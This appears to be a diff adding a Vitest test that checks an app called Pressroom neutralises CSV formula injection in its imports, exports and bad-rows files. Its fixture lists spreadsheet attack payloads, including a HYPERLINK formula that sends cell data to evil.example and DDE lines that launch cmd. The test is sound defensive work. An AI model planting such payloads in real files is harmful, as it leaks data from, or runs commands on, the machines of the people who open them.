@@ -1,0 +1,94 @@
+// CSV formula injection (OWASP "CSV Injection"): every CSV Pressroom writes leaves a cell that a
+// spreadsheet would run as a formula inert, and import reads it back as the text it was.
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { Pressroom } from '../../main/core/pressroom';
+
+const folder = mkdtempSync(join(tmpdir(), 'pressroom-formulas-'));
+let files = 0;
+const fixture = (content: string) => {
+  const path = join(folder, `f${files++}.csv`);
+  writeFileSync(path, content);
+  return path;
+};
+const workspace = () =>
+  new Pressroom({ dbFile: ':memory:', now: () => Date.UTC(2026, 10, 22, 12) });
+
+/** Cells a spreadsheet would take for a formula (or, for tab and CR, strip and then run). */
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '-5',
+];
+const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
+
+/** The file's cells as a spreadsheet sees them: quotes removed, nothing else. */
+const cellsOf = (csv: string) =>
+  Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
+
+describe('formula cells', () => {
+  it('are written inert in exports, and import again unchanged', async () => {
+    const pressroom = workspace();
+    const products = [
+      'sku,name,price,currency,description,stock',
+      ...FORMULAS.map((cell, i) => `${Papa.unparse([[`F${i}`, cell, '3.50', 'EUR', cell, 2]])}`),
+    ].join('\n');
+    expect(
+      await pressroom.importFile({ kind: 'products', path: fixture(`${products}\n`) }),
+    ).toMatchObject({ inserted: FORMULAS.length, invalid: 0 });
+    const posts = ['text', ...FORMULAS.map((cell) => Papa.unparse([[cell]]))].join('\n');
+    expect(
+      await pressroom.importFile({ kind: 'posts', path: fixture(`${posts}\n`) }),
+    ).toMatchObject({ inserted: FORMULAS.length, invalid: 0 });
+    expect(pressroom.store.products.list().map((product) => product.name)).toEqual(FORMULAS);
+
+    for (const kind of ['products', 'posts'] as const) {
+      const path = join(folder, `export-${kind}.csv`);
+      await pressroom.exportFile({ kind, path, bom: true });
+      const cells = cellsOf(readFileSync(path, 'utf8'));
+      expect(cells.filter(runsAsFormula)).toEqual([]);
+      // Prefixed with a single quote, as OWASP describes: a spreadsheet shows it as text.
+      for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
+      // The price and stock are ours, written as plain non-negative numbers: never prefixed.
+      if (kind === 'products') expect(cells).toContain('3.50');
+      expect(await pressroom.importFile({ kind, path })).toMatchObject({
+        rows: FORMULAS.length,
+        inserted: 0,
+        updated: 0,
+        unchanged: FORMULAS.length,
+        invalid: 0,
+      });
+      const text = await pressroom.exportText({ kind });
+      expect(cellsOf(text.csv).filter(runsAsFormula)).toEqual([]);
+    }
+    expect(pressroom.store.posts.list().map((post) => post.text)).toEqual(FORMULAS);
+    pressroom.close();
+  });
+
+  it('are written inert in the bad-rows file, and read back as they were', async () => {
+    const pressroom = workspace();
+    const path = fixture('sku,name,price\n=cmd,\tTab,-4\n@x,\rCR,=1+1\n');
+    const result = await pressroom.importFile({ kind: 'products', path, onError: 'skip' });
+    expect(result.invalid).toBe(2);
+    const badRows = result.badRowsCsv ?? '';
+    const cells = cellsOf(badRows);
+    expect(cells.filter(runsAsFormula)).toEqual([]);
+    expect(cells).toEqual(
+      expect.arrayContaining(["'=cmd", "'\tTab", "'-4", "'@x", "'\rCR", "'=1+1"]),
+    );
+    // Fixed in a spreadsheet and imported again, the cells are read as the original text.
+    const fixed = fixture(badRows.replace("'-4", '4').replace("'=1+1", '5'));
+    const again = await pressroom.importFile({ kind: 'products', path: fixed });
+    expect(again).toMatchObject({ inserted: 2, invalid: 0 });
+    expect(pressroom.store.products.list().map((p) => [p.sku, p.name])).toEqual([
+      ['=cmd', 'Tab'],
+      ['@x', 'CR'],
+    ]);
+    pressroom.close();
+  });
+});
